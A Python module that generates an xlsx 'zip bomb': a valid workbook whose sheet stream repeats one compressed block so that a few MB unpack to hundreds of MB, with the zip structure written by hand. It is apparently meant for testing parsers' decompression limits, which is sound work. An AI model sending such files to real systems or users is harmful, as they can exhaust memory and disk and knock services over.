"""An xlsx « zip bomb »: a valid workbook whose sheet part unpacks to hundreds of MB from a few MB.

The sheet's deflate stream is built without deflating the whole sheet: one block of rows is
compressed after a full flush (which resets the compressor's window), so every later copy of that
block compresses to the same bytes and is simply repeated. The zip is then written by hand.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

BLOCK_ROWS = 4096
_ROW = b'<row><c t="inlineStr"><is><t>' + b"0" * 220 + b"</t></is></c></row>"
_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
_TAIL = b"</sheetData></worksheet>"
_DOS_TIME, _DOS_DATE = 0, (2025 - 1980) << 9 | 1 << 5 | 20


def _sheet_stream(unpacked: int) -> tuple[list[bytes], int, int, int]:
    """(deflate pieces, repeat count of the middle piece, crc32, uncompressed size)."""
    block = _ROW * BLOCK_ROWS
    copies = max(1, (unpacked - len(_HEAD) - len(_TAIL)) // len(block))
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(_HEAD) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    assert again == body  # a full flush makes every copy compress alike
    tail = deflate.compress(_TAIL) + deflate.flush()
    crc = zlib.crc32(_HEAD)
    for _ in range(copies):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(_TAIL, crc)
    return [head, body, tail], copies, crc, len(_HEAD) + copies * len(block) + len(_TAIL)


def write_bomb(template: Path, target: Path, sheet_part: str, unpacked: int) -> int:
    """Copy workbook `template` to `target` with `sheet_part` replaced by a sheet of about
    `unpacked` bytes; returns the size of the written file."""
    with zipfile.ZipFile(template) as src:
        parts = [(i.filename, src.read(i)) for i in src.infolist()]
    central = []
    with target.open("wb") as out:
        for name, data in parts:
            offset = out.tell()
            if name == sheet_part:
                (head, body, tail), copies, crc, size = _sheet_stream(unpacked)
                packed = len(head) + copies * len(body) + len(tail)
                pieces = [head, *([body] * copies), tail]
            else:
                deflate = zlib.compressobj(6, zlib.DEFLATED, -15)
                one = deflate.compress(data) + deflate.flush()
                crc, size, packed, pieces = zlib.crc32(data), len(data), len(one), [one]
            header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, _DOS_TIME, _DOS_DATE, crc,
                                 packed, size, len(name.encode()), 0)
            out.write(header + name.encode())
            for piece in pieces:
                out.write(piece)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, _DOS_TIME,
                                       _DOS_DATE, crc, packed, size, len(name.encode()), 0, 0, 0, 0, 0,
                                       offset) + name.encode())
        start = out.tell()
        directory = b"".join(central)
        out.write(directory)
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), len(directory),
                              start, 0))
        return out.tell()
